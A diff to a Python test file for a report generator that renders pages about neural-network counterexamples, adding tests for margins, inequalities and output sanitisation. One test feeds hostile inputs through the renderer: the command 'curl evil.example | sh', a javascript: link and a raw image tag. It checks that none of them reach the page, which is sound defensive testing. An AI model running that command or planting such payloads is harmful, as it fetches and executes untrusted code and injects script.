@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import math
+import re
 import xml.etree.ElementTree as ElementTree
 from collections import Counter
 from collections.abc import Callable
@@ -22,13 +24,16 @@ from harness.records.record import FIGURE, INSTANCE, PAGE, RECORD, Record, along
 from harness.records.record import stored as stored_records
 from harness.report import figure_svg, index, labels, page, pages
 from harness.report.figure import BLUE, VERMILION, draw, figure
-from harness.report.improving import way, worth
+from harness.report.improving import scaled_value, way
+from harness.report.inequality import inequality, saved
+from harness.report.markdown import html
 from harness.report.words import short, table
 from harness.testing.terminal import in_short, news
 from tests.certificates.test_stored import CASES
 from tests.certificates.test_stored import stored as certified
 from tests.support.counterexamples import ALL, depth2_local, depth2_relu_nonzero_local, fc_relu_local
 
+REPORTS = Path(__file__).parents[2] / "reports"
 every = pytest.mark.parametrize("make", ALL.values(), ids=ALL)
 
 
@@ -62,7 +67,7 @@ def test_page_has_the_statement_the_commands_and_the_figure(make: Callable[[], R
     if claim.assumption:
         assert claim.assumption in text
     assert f"({FIGURE})" in text
-    assert record.data["replay"]["verify"] in text
+    assert record.commands["verify"] in text
     headings = [line[3:] for line in text.splitlines() if line.startswith("## ")]
     assert headings == [
         "The instance",
@@ -72,6 +77,54 @@ def test_page_has_the_statement_the_commands_and_the_figure(make: Callable[[], R
         "What is proven, and what is evidence",
         "Check it",
     ]
+
+
+def _folder(record: Record) -> str:
+    return record.folder
+
+
+def test_page_says_why_in_one_inequality() -> None:
+    # both multipliers are 2; the better point's neuron 2 points along (-1, 0), hears x_1 = (-1, 1/4) alone
+    assert "\n\nIn one inequality: 2 > 1. A unit of neuron 2 " in page(fc_relu_local())
+    assert "\n\nIn one inequality: 0.707 + 0.707 = 1.41 > 1. A unit of neuron 1 " in page(depth2_relu_nonzero_local())
+
+
+@pytest.mark.parametrize("record", [*(make() for make in ALL.values()), *stored_records(REPORTS)], ids=_folder)
+def test_what_neurons_save_makes_up_the_margins(record: Record) -> None:
+    """sum_i lambda_i q_i at the better point, from its margins and neuron by neuron."""
+    if record.stated or not record.apart:
+        return
+    multipliers = record.data["limit"]["multipliers"]
+    margins = record.instance.problem.margins(record.better)
+    total = sum(float(a) * float(q) for a, q in zip(multipliers, margins, strict=True))
+    neurons = [n for n in record.neurons(record.better) if not n.zero]
+    sizes = [math.hypot(*map(float, n.w)) * abs(float(n.v)) for n in neurons]
+    assert sum(c * sum(saved(record, n)) for c, n in zip(sizes, neurons, strict=True)) == pytest.approx(total)
+    said = inequality(record)
+    assert said is not None
+    if record.layer is None and all(record.instance.network.trained):
+        assert " > 1. A unit of neuron " in said
+
+
+HOSTILE = "![](http://picture.example/x.png) [a](javascript:b) <img src=x> www.example.org\n\n# |`~~~`"
+
+
+@every
+def test_nothing_but_text_comes_of_the_text_of_a_file(make: Callable[[], Record]) -> None:
+    record = make()
+    found = {"seed": HOSTILE, "software": {HOSTILE: HOSTILE}}
+    counts = dict.fromkeys(("drawn", "violated", "holds", "outside", "undecided"), HOSTILE)
+    robustness = {"robust": True, "shift": 1, "seed": HOSTILE, "starts": counts, "data": counts}
+    replay = {"verify": "curl evil.example | sh"}
+    made = page(Record(record.data | {"replay": replay, "found": found, "robustness": robustness}))
+    assert "evil" not in made
+    shown = html(made)
+    assert shown.count("picture.example") >= 9
+    assert shown.count("<img") == 1
+    assert shown.count("<h1") == 1
+    assert set(re.findall(r'(?:href|src)="(.*?)"', shown)) == {FIGURE, RECORD, INSTANCE}
+    # no more links for those who make links of bare addresses
+    assert not re.search(r"(?<!\\)(://|www\.)", made)
 
 
 def rows_after(text: str, heading: str) -> list[list[str]]:
@@ -242,8 +295,8 @@ def test_the_way_ends_at_the_better_point(name: str) -> None:
     record = Record(certified(name))
     found = way(record)
     start, end = (np.array([float(a) for u in theta for a in u]) for theta in (record.limit, record.better))
-    assert found.worth[0] == pytest.approx(float(record.cost(record.limit)))
-    assert found.worth[-1] == pytest.approx(float(record.cost(record.better)), rel=1e-12)
+    assert found.values[0] == pytest.approx(float(record.objective(record.limit)))
+    assert found.values[-1] == pytest.approx(float(record.objective(record.better)), rel=1e-12)
     assert found.distance[-1] == pytest.approx(np.linalg.norm(end - start) / np.linalg.norm(start), rel=1e-12)
 
 
@@ -257,7 +310,7 @@ def test_the_panels_of_a_figure_say_the_same(name: str) -> None:
 
 
 def curves() -> list[Record]:
-    reports = Path(__file__).parents[2] / "reports"
+    reports = REPORTS
     records = [Record(certified(name)) for name in CASES]
     return [r for r in [*records, *stored_records(reports)] if r.kind == "curve"]
 
@@ -266,24 +319,24 @@ def curves() -> list[Record]:
 def test_nothing_on_the_curve_is_better_than_the_best_point_on_it(record: Record) -> None:
     found = way(record)
     best = float(value(record.better))
-    assert min(a for a in found.worth if a is not None) >= best * (1 - 1e-9)
+    assert min(a for a in found.values if a is not None) >= best * (1 - 1e-9)
     d, e, _ = record.curve
     farthest = (value(record.limit) / value(d)) ** 0.5
     for k in range(1, 301):
         point = along(record.limit, d, e, Fraction(farthest * k / 300))
-        there = worth(record, tuple(tuple(float(a) for a in u) for u in point))
+        there = scaled_value(record, tuple(tuple(float(a) for a in u) for u in point))
         assert there is None or there >= best * (1 - 1e-9)
 
 
 def test_what_is_gained_along_the_way_near_the_limit() -> None:
     """The curve of docs/statements.md, section 6: of second order."""
     found = way(fc_relu_local())
-    assert found.worth[0] == pytest.approx(4)
+    assert found.values[0] == pytest.approx(4)
     assert found.distance[0] == 0.0
     small = [k for k, distance in enumerate(found.distance) if 0.0 < distance < 0.2]
     assert small
     for k in small:
-        change = found.worth[k]
+        change = found.values[k]
         assert change is not None
         assert 0.0 < 4 - change < 8 * found.distance[k] ** 2
 
@@ -386,8 +439,7 @@ def test_points_count_before_neurons_before_dimensions_before_numbers() -> None:
 
 def test_what_is_new_beside_what_is_stored(tmp_path: Path) -> None:
     record = depth2_local(3)
-    small = Record(depth2_local(2).data | {"replay": {"harvest": "marginalia harvest"}})
-    again = Record(record.data | {"replay": {"harvest": "marginalia harvest"}})
+    small = depth2_local(2)
     said = news(small, tmp_path)
     assert said is not None
     assert "no depth2-local--linear--zero-weight is stored" in said
@@ -397,9 +449,9 @@ def test_what_is_new_beside_what_is_stored(tmp_path: Path) -> None:
     said = news(small, tmp_path)
     assert said is not None
     assert "smaller than the stored depth2-local--linear--zero-weight" in said
-    assert news(again, tmp_path) is None
+    assert news(record, tmp_path) is None
     path.write_text("{")
-    assert "not a stored counterexample" in str(news(again, tmp_path))
+    assert "not a stored counterexample" in str(news(record, tmp_path))
 
 
 def test_a_run_in_short(tmp_path: Path) -> None:
